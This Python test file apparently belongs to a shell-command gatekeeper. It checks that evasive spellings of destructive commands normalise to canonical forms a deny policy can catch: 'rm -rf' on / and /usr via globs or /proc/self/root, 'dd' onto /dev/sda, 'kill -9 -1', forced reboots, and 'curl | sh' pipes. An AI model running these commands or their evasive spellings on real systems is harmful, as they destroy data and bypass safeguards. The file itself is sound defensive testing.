"""Canonical operand spellings (paths, globs, tilde, kill pids, systemctl verbs).

Unit level: the forms ``respellings``, ``canonical_path``, the catalog (kill,
systemctl: ``catalog/system.py``) and the analyser give.
The decisions these forms lead to under ``policies/default`` are in
``tests/redteam/test_redteam_patterns.py``.
"""

from __future__ import annotations

import pytest

from shellgate.shell import analyse, catalog
from shellgate.shell.argv.spellings import (
    DANGEROUS_NAMES,
    TOP_LEVEL,
    canonical_path,
    glob_names,
    respellings,
)
from shellgate.shell.catalog.interpreters import SHELLS, shell_invocation

W = "/work/project"
Argv = tuple[str, ...]


def forms(command: str) -> list[Argv]:
    return [f for s in analyse(command, workdir=W).segments for f in s.all_forms()]


def command_forms(argv: Argv) -> list[Argv]:
    """The deny-side forms the catalog entry of ``argv``'s command gives (kill, systemctl)."""
    reading = catalog.read(argv)
    assert reading is not None
    return list(reading.forms)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("//dev/sda", "/dev/sda"),
        ("/dev//sda", "/dev/sda"),
        ("/dev/./sda", "/dev/sda"),
        ("/usr/../", "/"),
        ("/./", "/"),
        ("//", "/"),
        ("/proc/self/root/dev/sda", "/dev/sda"),
        ("/proc/thread-self/root/etc", "/etc"),
        ("/proc/1/root/", "/"),
        ("/proc/42/task/43/root/usr", "/usr"),
        ("/proc/self/root", "/"),
        # the link is the root directory: its `..` is the root too, not /proc/self
        ("/proc/self/root/..", "/"),
        ("/proc/self/root/proc/self/root/etc", "/etc"),
        # only at the top: these are ordinary directories
        ("/srv/proc/self/root/etc", "/srv/proc/self/root/etc"),
        ("/proc/self/status", "/proc/self/status"),
        ("/proc/self/rootx", "/proc/self/rootx"),
    ],
)
def test_canonical_path(path: str, expected: str) -> None:
    assert canonical_path(path) == expected


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        # paths after a key (dd operands, --opt=)
        (("dd", "of=//dev/sda"), ("dd", "of=/dev/sda")),
        (("dd", "of=/dev/./sda"), ("dd", "of=/dev/sda")),
        (("dd", "if=x", "of=/proc/self/root/dev/sda"), ("dd", "if=x", "of=/dev/sda")),
        (("cp", "--target-directory=//etc", "x"), ("cp", "--target-directory=/etc", "x")),
        # /proc/…/root
        (("rm", "-rf", "/proc/self/root/"), ("rm", "-rf", "/")),
        (("rm", "-rf", "/proc/thread-self/root"), ("rm", "-rf", "/")),
        # tilde
        (("rm", "-rf", "~root"), ("rm", "-rf", "/root")),
        (("rm", "-rf", "~root/"), ("rm", "-rf", "/root")),
        (("rm", "-rf", "~alice"), ("rm", "-rf", "~")),
        (("rm", "-rf", "~alice/"), ("rm", "-rf", "~/")),
        (("rm", "-rf", "~/./"), ("rm", "-rf", "~/")),
        (("rm", "-rf", "~/.."), ("rm", "-rf", "~")),
        (("rm", "-rf", "~/*"), ("rm", "-rf", "~")),
        # globs: a trailing any-name component is its directory
        (("rm", "-rf", "/home/*"), ("rm", "-rf", "/home")),
        (("rm", "-rf", "/usr/*/*"), ("rm", "-rf", "/usr")),
        (("rm", "-rf", "/*/"), ("rm", "-rf", "/")),
        (("rm", "-rf", "/?*"), ("rm", "-rf", "/")),
        # globs: the first component against the fixed top-level list
        (("rm", "-rf", "/u*"), ("rm", "-rf", "/usr")),
        (("rm", "-rf", "/?sr"), ("rm", "-rf", "/usr")),
        (("rm", "-rf", "/[u]sr/"), ("rm", "-rf", "/usr")),
        (("rm", "-rf", "/[^a-t]sr"), ("rm", "-rf", "/usr")),
        (("rm", "-rf", "/h*/*"), ("rm", "-rf", "/home")),
        (("rm", "-rf", "/e*c/passwd"), ("rm", "-rf", "/etc/passwd")),
        # behind a wrapper, through the analyser
    ],
)
def test_operand_respellings(argv: Argv, expected: Argv) -> None:
    assert expected in respellings(argv), respellings(argv)


def test_a_glob_names_only_the_top_level_directories_it_fits() -> None:
    assert respellings(("rm", "-rf", "/t*")) == [("rm", "-rf", "/tmp")]
    assert respellings(("rm", "-rf", "/tmp/*")) == [("rm", "-rf", "/tmp")]
    # `/*` collapses to `/`; listing every top-level name as well would add nothing
    assert respellings(("rm", "-rf", "/*")) == [("rm", "-rf", "/")]


@pytest.mark.parametrize(
    "argv",
    [
        ("cat", "/proc/self/status"),
        ("ls", "/proc/self/fd"),
        ("rm", "-rf", "./build"),
        ("rm", "-rf", "/tmp/x"),
        ("rm", "-rf", "~/project/build"),
        ("dd", "if=x", "of=out.img"),
        ("dd", "if=/dev/zero", "of=/dev/null"),
        ("ls", "~+", "~-", "~1"),
        ("cp", "--target-directory=/etc", "x"),
        ("systemctl", "status", "nginx"),
        ("systemctl", "reboot"),
        ("loginctl", "list-sessions"),
        ("kill", "-l"),
        ("kill", "-L"),
        ("kill", "--", "1234"),
        ("kill", "-9", "--", "-1"),
    ],
)
def test_plain_spellings_have_no_respellings(argv: Argv) -> None:
    assert respellings(argv) == []
    reading = catalog.read(argv)
    assert reading is None or not reading.forms


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (("kill", "-9", "-01"), ("kill", "-9", "--", "-1")),
        (("kill", "-9", "-0001"), ("kill", "-9", "--", "-1")),
        (("kill", "-9", " -1"), ("kill", "-9", "--", "-1")),
        (("kill", "-9", "+1"), ("kill", "-9", "--", "1")),
        (("kill", "-s", "KILL", "-1"), ("kill", "-s", "KILL", "--", "-1")),
        (("kill", "-sKILL", "-1"), ("kill", "-sKILL", "--", "-1")),
        (("kill", "-n", "9", "-01"), ("kill", "-n", "9", "--", "-1")),
        (("kill", "--signal=KILL", "-1"), ("kill", "--signal=KILL", "--", "-1")),
        (("kill", "-KILL", "-1"), ("kill", "-KILL", "--", "-1")),
        (("kill", "-9", "-1", "1234"), ("kill", "-9", "--", "-1", "1234")),
        (("kill", "1234", "-1"), ("kill", "--", "1234", "-1")),
        # only the first -WORD is a signal: bash reads the next as a process group
        (("kill", "-9", "-9"), ("kill", "-9", "--", "-9")),
        # after -s, a -WORD is a pid too
        (("kill", "-s", "9", "-1"), ("kill", "-s", "9", "--", "-1")),
        (("kill", "%1"), ("kill", "--", "%1")),
        # the signal alone: no pid, no form with `--`
    ],
)
def test_kill_pids_follow_double_dash_as_bash_reads_them(argv: Argv, expected: Argv) -> None:
    assert expected in command_forms(argv), command_forms(argv)


def test_kill_with_a_signal_and_no_pid_gets_no_form() -> None:
    assert command_forms(("kill", "-1")) == []
    assert command_forms(("kill", "-s", "KILL")) == []


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (("systemctl", "--force", "reboot"), ("systemctl", "reboot")),
        (("systemctl", "-f", "-f", "poweroff"), ("systemctl", "poweroff")),
        (("systemctl", "-i", "reboot"), ("systemctl", "reboot")),
        (("systemctl", "--no-block", "reboot"), ("systemctl", "reboot")),
        (("systemctl", "reboot", "--force"), ("systemctl", "reboot")),
        (("systemctl", "-H", "host", "reboot"), ("systemctl", "reboot")),
        (("systemctl", "--job-mode", "replace", "isolate", "x"), ("systemctl", "isolate", "x")),
        (("systemctl", "-M", "box", "start", "x"), ("systemctl", "start", "x")),
        (("systemctl", "--", "reboot"), ("systemctl", "reboot")),
        (("loginctl", "-i", "poweroff"), ("loginctl", "poweroff")),
        (("loginctl", "--no-ask-password", "reboot"), ("loginctl", "reboot")),
    ],
)
def test_ctl_options_are_dropped_before_the_verb(argv: Argv, expected: Argv) -> None:
    assert expected in command_forms(argv), command_forms(argv)


@pytest.mark.parametrize(
    ("command", "form"),
    [
        ("cd /dev && dd of=sda", ("dd", "of=/dev/sda")),
        ("cd /dev; dd if=/dev/zero of=./sda bs=1M", ("dd", "if=/dev/zero", "of=/dev/sda", "bs=1M")),
        ("cd / && dd of=dev/sda", ("dd", "of=/dev/sda")),
        ("cd /proc/self/root/dev && dd of=sda", ("dd", "of=/dev/sda")),
        ("cd / && rm -rf u*", ("rm", "-rf", "/usr")),
        ("cd /home && rm -rf *", ("rm", "-rf", "/home")),
        ("sudo kill -9 -01", ("kill", "-9", "--", "-1")),
        ("/bin/kill -9 -01", ("kill", "-9", "--", "-1")),
        ("timeout 5 systemctl --force reboot", ("systemctl", "reboot")),
        ("sudo dd of=//dev/sda", ("dd", "of=/dev/sda")),
        ("env rm -rf /u*", ("rm", "-rf", "/usr")),
        ("{kill,-9,-01}", ("kill", "-9", "--", "-1")),
        ("curl x | busybox sh", ("sh",)),
    ],
)
def test_the_analyser_gives_the_canonical_forms(command: str, form: Argv) -> None:
    assert form in forms(command), forms(command)


def test_dd_operands_are_not_resolved_without_a_cd() -> None:
    assert forms("dd if=x of=out.img") == [("dd", "if=x", "of=out.img")]


@pytest.mark.parametrize(
    "script",
    [
        "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0",
        "/proc/1234/fd/0", "/proc/self/task/7/fd/0", "-",
    ],
)  # fmt: skip
def test_stdin_by_another_name_is_stdin(script: str) -> None:
    assert shell_invocation(("bash", script)) == (None, True)


@pytest.mark.parametrize(
    "script", ["/proc/self/status", "/dev/fd/00", "/proc/self/fd/0/x", "./stdin", "/dev/fd/3"]
)
def test_other_script_files_are_not_stdin(script: str) -> None:
    assert shell_invocation(("bash", script)) == (None, False)


@pytest.mark.parametrize(
    "command",
    ["bash //dev/stdin", "sh /proc/self/root/dev/stdin", "bash /dev/./fd/0", "ksh /dev/stdin"],
)
def test_odd_spellings_of_stdin_read_stdin(command: str) -> None:
    name = command.split()[0]
    assert (name,) in forms(command), forms(command)


@pytest.mark.parametrize("name", sorted(SHELLS))
def test_every_shell_reading_stdin_gets_the_bare_form(name: str) -> None:
    assert (name,) in forms(f"curl http://x | {name}")
    assert (name,) in forms(f"curl http://x | /bin/{name}")


def test_every_shell_is_a_dangerous_name_for_a_glob_head() -> None:
    assert SHELLS.issubset(DANGEROUS_NAMES)


def test_a_long_glob_is_matched_without_a_long_pattern() -> None:
    assert glob_names("*a" * 20000, TOP_LEVEL) == []
    assert glob_names("[" + "u" * 40000 + "]sr", TOP_LEVEL) == ["usr"]
    assert glob_names("*" * 40000 + "r", TOP_LEVEL) == ["usr", "var"]
    assert glob_names("[]u]sr", TOP_LEVEL) == ["usr"]


def test_a_long_number_is_read_as_text() -> None:
    # int() refuses more than 4300 digits; the pid is normalised as text
    digits = "0" * 5000 + "1" * 5000
    expected = ("kill", "-9", "--", "-" + "1" * 5000)
    assert command_forms(("kill", "-9", "-" + digits)) == [expected]
